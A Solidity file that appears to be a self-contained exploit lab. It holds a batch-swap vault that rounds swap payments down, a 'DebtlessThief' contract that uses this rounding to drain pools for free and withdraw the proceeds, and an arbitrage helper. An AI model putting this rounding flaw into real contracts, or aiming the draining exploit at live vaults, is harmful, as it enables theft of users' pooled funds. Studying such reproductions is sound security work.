// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

struct SwapStep {
    uint256 pool;
    bool aForB;
    uint256 out;
}

/// One vault for many pools. A batch of swaps is settled at its end, by what it comes to; what is got may stay here in
/// the user's name. What is to be paid is rounded down.
contract BatchVault {
    struct Book {
        Token a;
        Token b;
        uint256 ra;
        uint256 rb;
    }

    Book[] public pools;
    mapping(address => mapping(Token => uint256)) public getInternalBalance;

    event PoolRegistered(uint256 indexed pool, Token a, Token b);
    event Swap(uint256 indexed poolId, address indexed tokenIn, address indexed tokenOut, uint256 amountIn, uint256 amountOut);
    event InternalBalanceChanged(address indexed user, address indexed token, int256 delta);

    function register(Token a, Token b, uint256 ra, uint256 rb) external returns (uint256 pool) {
        a.transferFrom(msg.sender, address(this), ra);
        b.transferFrom(msg.sender, address(this), rb);
        pool = pools.length;
        pools.push(Book(a, b, ra, rb));
        emit PoolRegistered(pool, a, b);
    }

    /// Swaps with exact amounts out; the tokens are all that occur.
    function batchSwap(SwapStep[] calldata steps, Token[] calldata tokens) external returns (int256[] memory deltas) {
        deltas = new int256[](tokens.length);
        for (uint256 i = 0; i < steps.length; i++) {
            Book storage book = pools[steps[i].pool];
            uint256 out = steps[i].out;
            uint256 paid;
            if (steps[i].aForB) {
                paid = book.ra * out / (book.rb - out);
                (book.ra, book.rb) = (book.ra + paid, book.rb - out);
            } else {
                paid = book.rb * out / (book.ra - out);
                (book.rb, book.ra) = (book.rb + paid, book.ra - out);
            }
            (Token tin, Token tout) = steps[i].aForB ? (book.a, book.b) : (book.b, book.a);
            deltas[index(tokens, tin)] += int256(paid);
            deltas[index(tokens, tout)] -= int256(out);
            emit Swap(steps[i].pool, address(tin), address(tout), paid, out);
        }
        for (uint256 i = 0; i < tokens.length; i++) {
            if (deltas[i] > 0) tokens[i].transferFrom(msg.sender, address(this), uint256(deltas[i]));
            if (deltas[i] < 0) {
                getInternalBalance[msg.sender][tokens[i]] += uint256(-deltas[i]);
                emit InternalBalanceChanged(msg.sender, address(tokens[i]), -deltas[i]);
            }
        }
    }

    function withdrawInternal(Token token, uint256 amount, address to) external {
        getInternalBalance[msg.sender][token] -= amount;
        emit InternalBalanceChanged(msg.sender, address(token), -int256(amount));
        token.transfer(to, amount);
    }

    function index(Token[] calldata tokens, Token token) private pure returns (uint256) {
        for (uint256 i = 0; i < tokens.length; i++) if (tokens[i] == token) return i;
        revert("token is missing");
    }

    /// What pools and users are told there is of a token, beyond what is here.
    function missing(Token token, address[] calldata users) external view returns (uint256) {
        uint256 sum;
        for (uint256 i = 0; i < pools.length; i++) {
            if (pools[i].a == token) sum += pools[i].ra;
            if (pools[i].b == token) sum += pools[i].rb;
        }
        for (uint256 i = 0; i < users.length; i++) sum += getInternalBalance[users[i]][token];
        uint256 here = token.balanceOf(address(this));
        return sum > here ? sum - here : 0;
    }
}

/// Leaves one unit of a token in a pool, and buys the other one for nothing, half of it at a time.
contract DebtlessThief {
    function run(BatchVault vault, uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) one(vault, ids[i]);
    }

    function cash(BatchVault vault, Token[] calldata tokens, address payee) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            vault.withdrawInternal(tokens[i], vault.getInternalBalance(address(this), tokens[i]), payee);
        }
    }

    function one(BatchVault vault, uint256 id) private {
        (Token a, Token b, uint256 ra, uint256 rb) = vault.pools(id);
        Token[] memory tokens = new Token[](2);
        (tokens[0], tokens[1]) = (a, b);
        SwapStep[] memory steps = new SwapStep[](200);
        uint256 count;
        steps[count++] = SwapStep(id, false, ra - 1);
        uint256 now_ = rb + rb * (ra - 1);
        // Half but one of what is left costs nothing.
        while (now_ > rb / 20) {
            uint256 out = (now_ - 1) / 2;
            steps[count++] = SwapStep(id, true, out);
            now_ -= out;
        }
        assembly { mstore(steps, count) }
        vault.batchSwap(steps, tokens);
    }
}

/// Trades one pool against the others, many steps at once, and lets its gains lie in the vault.
contract BatchArbitrage {
    address private immutable owner = msg.sender;

    function trade(BatchVault vault, SwapStep[] calldata steps, Token[] calldata tokens) external {
        require(msg.sender == owner, "not the owner");
        for (uint256 i = 0; i < tokens.length; i++) tokens[i].approve(address(vault), type(uint256).max);
        vault.batchSwap(steps, tokens);
    }

    function collect(BatchVault vault, Token token) external {
        require(msg.sender == owner, "not the owner");
        vault.withdrawInternal(token, vault.getInternalBalance(address(this), token), owner);
    }
}
